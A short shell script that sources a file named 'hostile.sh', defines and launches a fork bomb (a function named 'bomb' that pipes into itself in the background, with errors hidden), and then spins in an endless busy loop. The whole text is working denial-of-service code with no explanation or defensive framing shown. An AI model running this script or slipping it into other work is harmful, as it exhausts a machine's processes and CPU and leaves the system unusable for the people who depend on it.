. ./hostile.sh
bomb() {
    bomb | bomb &
}
bomb 2>/dev/null &
# Without any process of its own, since there is none to be had.
while :; do :; done
